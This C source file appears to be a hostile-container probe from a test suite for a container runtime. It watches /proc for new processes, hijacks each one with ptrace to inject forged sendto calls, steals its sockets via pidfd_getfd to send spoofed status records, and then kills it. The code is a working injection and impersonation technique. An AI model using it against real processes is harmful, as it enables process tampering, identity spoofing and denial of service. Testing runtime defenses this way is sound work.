// What a container would do to a runtime that comes in: takes over each process that it has not seen before, ptrace(2), and says
// in its name, and in its own, over whatever socket it holds, that it goes on as somebody else.
#include "hostile.h"
#include "probe.h"

#include <ctype.h>
#include <dirent.h>
#include <elf.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#define FIRST_FD 3
#define LAST_FD 12
#define MAX_PIDS 32768

static unsigned char known[MAX_PIDS];

// A struct status_record of jpod: MILESTONE, which one, a pid.
struct record {
    uint32_t kind, index;
    int32_t pid;
};

// Makes the stopped process call sendto(fd, record, ...) where it stands; whether that was a socket.
static int send_as(pid_t pid, int fd, struct record record) {
#ifdef __x86_64__
    struct user_regs_struct before, regs;
    int status;
    if (ptrace(PTRACE_GETREGS, pid, 0, &before) != 0) return 0;
    regs = before;
    unsigned long place = (regs.rsp - 512) & ~15ul;
    struct iovec from = {&record, sizeof(record)}, to = {(void *)place, sizeof(record)};
    if (process_vm_writev(pid, &from, 1, &to, 1, 0) != sizeof(record)) return 0;
    // It stands behind a call, or is about to make it once more: the instruction has two bytes.
    regs.orig_rax = (unsigned long)-1;
    regs.rip = before.rip - 2;
    regs.rax = SYS_sendto;
    regs.rdi = (unsigned long)fd;
    regs.rsi = place;
    regs.rdx = sizeof(record);
    regs.r10 = MSG_NOSIGNAL | MSG_DONTWAIT;
    regs.r8 = regs.r9 = 0;
    if (ptrace(PTRACE_SETREGS, pid, 0, &regs) != 0 || ptrace(PTRACE_SINGLESTEP, pid, 0, 0) != 0) return 0;
    if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status)) return 0;
    int sent = ptrace(PTRACE_GETREGS, pid, 0, &regs) == 0 && (long)regs.rax == (long)sizeof(record);
    ptrace(PTRACE_SETREGS, pid, 0, &before);
    return sent;
#else
    (void)pid, (void)fd, (void)record;
    return 0;
#endif
}

static int send_through_copy(int pidfd, int fd, struct record record) {
    int copy = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
    if (copy < 0) return 0;
    int sent = send(copy, &record, sizeof(record), MSG_NOSIGNAL | MSG_DONTWAIT) == sizeof(record);
    close(copy);
    return sent;
}

static void take_over(pid_t pid, struct record record) {
    int status, as_it = 0, as_us = 0;
    if (ptrace(PTRACE_ATTACH, pid, 0, 0) != 0) {
        // It may be hidden now and not be later: it is tried again.
        if (errno == EPERM) known[pid] = 0;
        return;
    }
    if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status)) return;
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    for (int fd = FIRST_FD; fd <= LAST_FD; fd++) {
        as_it += send_as(pid, fd, record);
        as_us += send_through_copy(pidfd, fd, record);
    }
    close(pidfd);
    kill(pid, SIGKILL);
    waitpid(pid, &status, __WALL);
    printf("took %d, said %d as it, %d as myself\n", pid, as_it, as_us);
    fflush(stdout);
}

int run_take_over(char **a) {
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    struct record record = {1, (uint32_t)atoi(a[1]), atoi(a[0])};
    int is_first = 1;
    if (proc == NULL) return fail("/proc");
    for (;; rewinddir(proc)) {
        while ((entry = readdir(proc)) != NULL) {
            int pid = isdigit(entry->d_name[0]) ? atoi(entry->d_name) : 0;
            if (pid <= 0 || pid >= MAX_PIDS || known[pid] || pid == getpid()) continue;
            known[pid] = 1;
            if (!is_first) take_over(pid, record);
        }
        if (is_first) {
            puts("ready");
            fflush(stdout);
        }
        is_first = 0;
    }
}
